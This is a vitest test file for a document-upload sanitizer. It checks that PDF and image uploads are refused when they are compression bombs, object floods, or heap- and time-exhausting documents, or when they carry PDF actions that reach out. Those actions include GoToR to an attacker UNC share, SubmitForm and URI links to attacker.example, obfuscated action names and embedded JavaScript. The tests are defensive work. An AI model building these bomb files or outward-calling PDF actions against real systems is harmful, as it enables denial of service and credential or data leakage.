import { crc32, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { AppError } from '../../../src/lib/errors.js';
import { sanitizeDocument, sanitizeSelfie } from '../../../src/modules/documents/sanitize.js';
import type { SanitizeDocumentOptions } from '../../../src/modules/documents/sanitize.js';
import {
  manyObjectStreams,
  objectFlood,
  objectStream,
  objectStreamBomb,
  objectStreamFlood,
  pdfOf,
  pdfWith,
  streamObject,
  xrefStreamBomb,
} from './hostile-pdfs.js';

// Issue 10: uploads built to exhaust the server or to make a reviewer's viewer reach out. The limits are
// pdf-refusals.ts's DEFAULT_PDF_LIMITS: 10 MB per decoding step, 50 MB per document, 10,000 objects.

const FIELD = '/dematDetails/0/clientMasterCopy';
const OPTIONS: SanitizeDocumentOptions = {
  allowed: ['pdf', 'jpeg', 'png'],
  maxPixels: 4096 * 4096,
  field: FIELD,
};
const MB = 1024 * 1024;

async function refusal(run: () => Promise<unknown>): Promise<[number, string, string | undefined]> {
  try {
    await run();
  } catch (error) {
    if (!(error instanceof AppError)) throw error;
    expect(error.errors?.[0]?.field).toBe(FIELD);
    return [error.status, error.code, error.errors?.[0]?.code];
  }
  throw new Error('expected a refusal');
}

const TOO_COMPLEX = [400, 'validation_failed', 'document_too_complex'];

describe('PDF compression bombs', () => {
  it('refuses an object stream inflating past the per-stream cap (64 MB from 64 KB)', async () => {
    const bomb = await objectStreamBomb(64 * MB);
    expect(bomb.length).toBeLessThan(100 * 1024);
    expect(await refusal(() => sanitizeDocument(bomb, OPTIONS))).toEqual(TOO_COMPLEX);
  });

  it('refuses object streams that together inflate past the document budget (8 × 8 MB)', async () => {
    const bombs = await manyObjectStreams(8, 8 * MB);
    expect(await refusal(() => sanitizeDocument(bombs, OPTIONS))).toEqual(TOO_COMPLEX);
  });

  it('refuses a bomb wrapped in a second Flate filter', async () => {
    const bomb = await objectStreamBomb(64 * MB, 2);
    expect(bomb.length).toBeLessThan(10 * 1024);
    expect(await refusal(() => sanitizeDocument(bomb, OPTIONS))).toEqual(TOO_COMPLEX);
  });

  it('accepts an object stream just under the per-stream cap', async () => {
    const result = await sanitizeDocument(await objectStreamBomb(9 * MB), OPTIONS);
    expect(result.contentType).toBe('application/pdf');
  });

  it('neither inflates nor walks a cross-reference stream claiming two billion entries', async () => {
    const result = await sanitizeDocument(await xrefStreamBomb(64 * MB), OPTIONS);
    expect(result.size).toBeLessThan(2048);
    expect((await PDFDocument.load(result.bytes)).getPageCount()).toBe(1);
  });

  it('still reads object streams behind other filters, within the same caps', async () => {
    const action = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';
    const stream = await objectStream([action], { firstNumber: 5 });
    // The same object stream, its compressed bytes hex-encoded in front of the Flate filter.
    const data = /stream\n([\s\S]*)\nendstream$/.exec(stream.toString('latin1'))![1]!;
    const hex = Buffer.from(`${Buffer.from(data, 'latin1').toString('hex')}>`);
    const dict = /<< (.*) \/Filter \/FlateDecode/.exec(stream.toString('latin1'))![1]!;
    const bytes = pdfOf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
      streamObject(`${dict} /Filter [/ASCIIHexDecode /FlateDecode]`, hex),
    ]);
    expect(await refusal(() => sanitizeDocument(bytes, OPTIONS))).toEqual([
      415,
      'unsupported_media_type',
      'pdf_javascript',
    ]);
  });
});

describe('PDF object floods', () => {
  it('refuses 120,000 tiny objects', async () => {
    expect(await refusal(() => sanitizeDocument(objectFlood(120_000), OPTIONS))).toEqual(TOO_COMPLEX);
  });

  it('refuses 100,000 objects packed into one object stream', async () => {
    const flood = await objectStreamFlood(100_000);
    expect(flood.length).toBeLessThan(1024 * 1024);
    expect(await refusal(() => sanitizeDocument(flood, OPTIONS))).toEqual(TOO_COMPLEX);
  });

  it('accepts a few thousand objects', async () => {
    await expect(sanitizeDocument(objectFlood(3_000), OPTIONS)).resolves.toMatchObject({
      contentType: 'application/pdf',
    });
  });
});

describe('the PDF worker', () => {
  it('is discarded past the time limit', async () => {
    const doc = await PDFDocument.create();
    doc.addPage();
    const pdf = Buffer.from(await doc.save());
    // Thousands of objects (accepted under the normal limits) take far longer than 1 ms even in a warm worker,
    // so the deadline wins its race with the answer every time.
    const slow = objectFlood(9_000);
    expect(await refusal(() => sanitizeDocument(slow, { ...OPTIONS, pdfLimits: { timeoutMs: 1 } }))).toEqual(
      TOO_COMPLEX,
    );
    // The next document gets a fresh worker.
    await expect(sanitizeDocument(pdf, OPTIONS)).resolves.toMatchObject({ contentType: 'application/pdf' });
  });

  it('is discarded when the document needs more heap than allowed', async () => {
    // ~1.5 million numbers: well over 64 MB of parsed objects from a 3 MB file.
    const numbers = `[${'0 '.repeat(1_500_000)}]`;
    const pdf = pdfWith(`/Numbers ${numbers}`);
    // The same heap is enough for an ordinary document.
    await expect(
      sanitizeDocument(pdfWith('/Numbers [0 1 2]'), { ...OPTIONS, pdfLimits: { maxHeapMb: 64 } }),
    ).resolves.toMatchObject({ contentType: 'application/pdf' });
    expect(await refusal(() => sanitizeDocument(pdf, { ...OPTIONS, pdfLimits: { maxHeapMb: 64 } }))).toEqual(
      TOO_COMPLEX,
    );
  });
  it('answers 503 rather than queueing without end when too many documents wait for a worker', async () => {
    const pdf = pdfWith('');
    const outcomes = await Promise.allSettled(
      Array.from({ length: 60 }, () => sanitizeDocument(pdf, OPTIONS)),
    );
    const refused = outcomes.flatMap((outcome) => (outcome.status === 'rejected' ? [outcome.reason] : []));
    // At most 4 workers and 32 documents waiting for them.
    expect(refused.length).toBeGreaterThanOrEqual(60 - 4 - 32);
    for (const error of refused) expect(error).toMatchObject({ status: 503, code: 'service_unavailable' });
    expect(outcomes.filter((outcome) => outcome.status === 'fulfilled').length).toBeGreaterThanOrEqual(33);
  });
});

describe('PDF actions that reach out', () => {
  const annotation = (entries: string) => `/Annots [<< /Type /Annot /Rect [0 0 50 50] ${entries} >>]`;

  it.each([
    [
      'GoToR to a UNC path',
      pdfWith('/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>'),
      'pdf_external_action',
    ],
    [
      'SubmitForm to a URL',
      pdfWith('/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >>'),
      'pdf_external_action',
    ],
    [
      'a URI link',
      pdfWith('', annotation('/Subtype /Link /A << /S /URI /URI (https://attacker.example/) >>')),
      'pdf_external_action',
    ],
    ['ImportData', pdfWith('/OpenAction << /S /ImportData /F (data.fdf) >>'), 'pdf_external_action'],
    ['Named under /AA', pdfWith('', '/AA << /O << /S /Named /N /Print >> >>'), 'pdf_active_content'],
    ['Named as OpenAction', pdfWith('/OpenAction << /S /Named /N /SaveAs >>'), 'pdf_active_content'],
    [
      'Rendition',
      pdfWith('', annotation('/Subtype /Screen /A << /S /Rendition /OP 0 >>')),
      'pdf_active_content',
    ],
    [
      'RichMedia',
      pdfWith('', annotation('/Subtype /RichMedia /RichMediaContent << >>')),
      'pdf_active_content',
    ],
    ['Sound', pdfWith('/OpenAction << /S /Sound /Sound 3 0 R >>'), 'pdf_active_content'],
    ['Movie', pdfWith('/OpenAction << /S /Movie /T (clip) >>'), 'pdf_active_content'],
    ['GoTo3DView', pdfWith('/OpenAction << /S /GoTo3DView /TA 3 0 R /V /F >>'), 'pdf_active_content'],
    ['a 3D annotation', pdfWith('', annotation('/Subtype /3D /3DD 3 0 R')), 'pdf_active_content'],
    ['GoToR behind #-escapes', pdfWith('/OpenAction << /S /GoTo#52 /F (x.pdf) >>'), 'pdf_external_action'],
    [
      'URI behind lower-case #-escapes',
      pdfWith('', annotation('/Subtype /Link /A << /#53 /#55#52#49 /URI (https://x.example/) >>')),
      'pdf_external_action',
    ],
    ['RichMedia behind #-escapes', pdfWith('', annotation('/Subtype /Rich#4dedia')), 'pdf_active_content'],
    [
      'an action in a /Next chain',
      pdfWith(
        '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /SubmitForm /F (https://x.example/) >> >>',
      ),
      'pdf_external_action',
    ],
  ])('refuses %s with 415', async (_label, bytes, code) => {
    expect(await refusal(() => sanitizeDocument(bytes, OPTIONS))).toEqual([
      415,
      'unsupported_media_type',
      code,
    ]);
  });

  it.each([
    ['GoToR', 'pdf_external_action'],
    ['URI', 'pdf_external_action'],
    ['Rendition', 'pdf_active_content'],
  ])('refuses a %s action stored inside an object stream', async (action, code) => {
    const doc = await PDFDocument.create();
    doc.addPage([200, 200]);
    const target = doc.context.register(
      doc.context.obj({
        Type: 'Action',
        S: action,
        F: PDFString.of('\\\\attacker\\x'),
        URI: PDFString.of('https://x.example/'),
      }),
    );
    doc.catalog.set(PDFName.of('OpenAction'), target);
    const bytes = Buffer.from(await doc.save({ useObjectStreams: true }));
    expect(bytes.toString('latin1')).not.toContain(action);
    expect(await refusal(() => sanitizeDocument(bytes, OPTIONS))).toEqual([
      415,
      'unsupported_media_type',
      code,
    ]);
  });

  it('accepts internal navigation (GoTo) and drops an object it could not parse rather than storing it unread', async () => {
    const bytes = pdfOf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O 4 0 R >> >>',
      // Malformed for pdf-lib, yet a lenient reader may still run it.
      '<< /S /JavaScript /JS (app.alert\\(1\\)) ] >>',
    ]);
    const result = await sanitizeDocument(bytes, OPTIONS);
    expect(result.bytes.toString('latin1')).not.toContain('JavaScript');
    expect((await PDFDocument.load(result.bytes)).getPageCount()).toBe(1);
  });
});

describe('image decompression bombs (bounded before decoding)', () => {
  /** A valid JPEG whose frame header claims `size`×`size`. */
  async function jpegClaiming(size: number): Promise<Buffer> {
    const jpeg = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#777' } })
      .jpeg()
      .toBuffer();
    const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
    jpeg.writeUInt16BE(size, frame + 5);
    jpeg.writeUInt16BE(size, frame + 7);
    return jpeg;
  }

  /** A valid PNG of `size`×`size` black pixels: ~1 MB of zlib that inflates to `size`² × 3 bytes. */
  function pngInflating(size: number): Buffer {
    const chunk = (type: string, data: Buffer) => {
      const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
      const length = Buffer.alloc(4);
      length.writeUInt32BE(data.length);
      const crc = Buffer.alloc(4);
      crc.writeUInt32BE(crc32(body));
      return Buffer.concat([length, body, crc]);
    };
    const header = Buffer.alloc(13);
    header.writeUInt32BE(size, 0);
    header.writeUInt32BE(size, 4);
    header.set([8, 2, 0, 0, 0], 8);
    // Only the first rows are present: enough for a decoder to start allocating.
    const rows = Buffer.alloc((size * 3 + 1) * 64);
    return Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      chunk('IHDR', header),
      chunk('IDAT', deflateSync(rows, { level: 9 })),
      chunk('IEND', Buffer.alloc(0)),
    ]);
  }

  it.each([
    ['a JPEG claiming 60,000 × 60,000', () => jpegClaiming(60_000)],
    ['a PNG of 30,000 × 30,000', async () => pngInflating(30_000)],
  ])('refuses %s as a document and as a selfie', async (_label, build) => {
    const bomb = await build();
    expect(await refusal(() => sanitizeDocument(bomb, OPTIONS))).toEqual([
      400,
      'validation_failed',
      'image_too_large',
    ]);
    const selfie = { maxBytes: 2 * MB, maxPixels: 4096 * 4096, maxDimension: 1024, field: FIELD };
    expect(await refusal(() => sanitizeSelfie(bomb, selfie))).toEqual([
      400,
      'validation_failed',
      'image_too_large',
    ]);
  });
});
